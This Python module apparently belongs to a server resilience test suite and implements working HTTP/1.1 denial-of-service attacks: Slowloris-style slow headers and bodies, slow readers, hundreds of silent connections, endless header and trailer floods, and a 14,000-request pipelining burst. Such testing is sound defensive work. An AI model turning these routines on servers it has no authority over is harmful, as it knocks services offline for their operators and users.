"""HTTP/1.1: slow and silent clients over many connections, and endless headers."""

from __future__ import annotations

import selectors
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urlsplit

from .target import Outcome, Target, paced

NUM_CONNECTIONS = 200
NUM_PIPELINED = 14_000  # of 18 bytes: one read of asyncio has up to 256 KiB


def crawl(target: Target, seconds: float, start: bytes, drip: Callable[[int], bytes], *, reads: bool = True) -> Outcome:
    """Keep many connections open, each sending `start` and then a little every half second. Replace closed ones."""
    outcome = Outcome()
    url = urlsplit(target.address)
    end = time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        drips: dict[socket.socket, tuple[float, int]] = {}

        def connect() -> None:
            connection = socket.create_connection((url.hostname, url.port), timeout=5)
            connection.setblocking(False)
            with suppress(OSError):
                connection.send(start)
            drips[connection] = (time.monotonic() + 0.5, 0)
            if reads:
                selector.register(connection, selectors.EVENT_READ)
            outcome.connections += 1

        def drop(connection: socket.socket) -> None:
            if reads:
                selector.unregister(connection)
            connection.close()
            del drips[connection]

        while time.monotonic() < end:
            if len(drips) < NUM_CONNECTIONS:
                with suppress(OSError):
                    connect()
            for key, _ in selector.select(0.002) if reads else ():
                connection = key.fileobj
                assert isinstance(connection, socket.socket)
                try:
                    answer = connection.recv(65_536)
                except OSError:
                    answer = b""
                if answer.startswith(b"HTTP/1.1 "):
                    outcome.answers[answer[9:12].decode()] += 1
                if not answer:
                    outcome.answers["connection closed"] += 1
                    drop(connection)
            now = time.monotonic()
            for connection, (due, number) in [*drips.items()]:
                if now >= due and connection in drips:
                    drips[connection] = (now + 0.5, number + 1)
                    if more := drip(number):
                        try:
                            connection.send(more)
                            outcome.sent += 1
                        except OSError:
                            outcome.answers["connection reset"] += 1
                            drop(connection)
            time.sleep(0.001)
        for connection in [*drips]:
            drop(connection)
    return outcome


def head(path: str, method: str, headers: dict[str, str]) -> bytes:
    named = {"host": "localhost", **headers}
    return "\r\n".join(
        [f"{method} {path} HTTP/1.1", *(f"{key}: {value}" for key, value in named.items()), "", ""]
    ).encode()


def silent_connections(target: Target, seconds: float) -> Outcome:
    """Open connections and send nothing."""
    return crawl(target, seconds, b"", lambda _: b"")


def slow_headers(target: Target, seconds: float) -> Outcome:
    """Send a header every half second (Slowloris)."""
    begin = b"GET / HTTP/1.1\r\nhost: localhost\r\n"
    return crawl(target, seconds, begin, lambda number: f"x-{number}: a\r\n".encode())


def slow_bodies(target: Target, seconds: float) -> Outcome:
    """Send a byte of a push every half second."""
    return crawl(target, seconds, head(target.send_path, "POST", target.push_headers(100_000)), lambda _: b"x")


def slow_readers(target: Target, seconds: float) -> Outcome:
    """Request large responses without reading them."""
    return crawl(target, seconds, head(target.large_path, "GET", {}), lambda _: b"", reads=False)


def endless_headers(target: Target, seconds: float) -> Outcome:
    """Send headers without an end, as fast as they are accepted."""
    return _flood(target, seconds, b"GET / HTTP/1.1\r\n")


def endless_trailers(target: Target, seconds: float) -> Outcome:
    """Send trailers without an end after an empty body."""
    return _flood(target, seconds, head("/", "POST", {"transfer-encoding": "chunked"}) + b"0\r\n")


def pipelining(target: Target, seconds: float) -> Outcome:
    """Send 14,000 requests in one write after one whose large response is not read."""
    outcome = Outcome()
    url = urlsplit(target.address)
    requests = head(target.large_path, "GET", {}) + b"GET / HTTP/1.1\r\n\r\n" * NUM_PIPELINED
    connections = []
    for _ in paced(seconds, 10):
        connections.append(connection := socket.create_connection((url.hostname, url.port), timeout=1))
        outcome.connections += 1
        try:
            connection.sendall(requests)
            outcome.sent += NUM_PIPELINED
        except OSError:
            outcome.answers["connection reset"] += 1
    for connection in connections:
        connection.close()
    return outcome


def _flood(target: Target, seconds: float, start: bytes) -> Outcome:
    outcome = Outcome()
    url = urlsplit(target.address)
    connection: socket.socket | None = None
    for _ in paced(seconds, 200):
        if connection is None:
            connection = socket.create_connection((url.hostname, url.port), timeout=1)
            outcome.connections += 1
            connection.sendall(start)
        try:
            connection.sendall(b"x-a: " + b"b" * 65_000 + b"\r\n")
            outcome.sent += 1
        except OSError:
            with suppress(OSError):
                outcome.answers[connection.recv(1000)[9:12].decode() or "connection closed"] += 1
            connection.close()
            connection = None
    if connection is not None:
        connection.close()
    return outcome
